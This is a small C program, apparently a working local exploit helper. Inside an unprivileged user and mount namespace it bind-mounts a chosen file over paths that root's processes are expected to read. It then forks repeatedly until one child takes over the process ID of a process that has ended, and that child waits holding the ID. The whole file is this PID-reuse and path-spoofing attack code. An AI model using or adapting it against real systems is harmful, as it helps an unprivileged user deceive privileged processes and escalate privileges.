/* Take the number of a process that has ended, in mounts of one's own where nothing is nosuid.
 *
 * `occupy PID TARGET FAKE...`, started in `unshare -Urm`: shows TARGET at each FAKE, which is where
 * root's processes would look for it, and forks until a child has the number. The child waits. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void make_folders(char *path)
{
    for (char *at = path + 1; (at = strchr(at, '/')); at++) {
        *at = 0;
        mkdir(path, 0755);
        *at = '/';
    }
    mkdir(path, 0755);
}

int main(int count, char **arguments)
{
    pid_t wanted = atoi(arguments[1]);
    time_t end = time(NULL) + 60;
    char source[64];
    int target = open(arguments[2], O_PATH);

    setvbuf(stdout, NULL, _IONBF, 0);
    snprintf(source, sizeof(source), "/proc/self/fd/%d", target);
    mount("tmpfs", "/run", "tmpfs", 0, NULL);
    for (int i = 3; i < count; i++) {
        make_folders(arguments[i]);
        if (mount(source, arguments[i], NULL, MS_BIND, NULL))
            perror(arguments[i]);
        mount(NULL, arguments[i], NULL, MS_REMOUNT | MS_BIND, NULL);
    }
    printf("at it\n");
    while (time(NULL) < end) {
        pid_t child = fork();

        if (!child) {
            if (getpid() == wanted)
                sleep(60);
            _exit(0);
        }
        if (child == wanted)
            printf("occupied\n");
        waitpid(child, NULL, 0);
        if (child == wanted)
            return 0;
    }
    return 1;
}
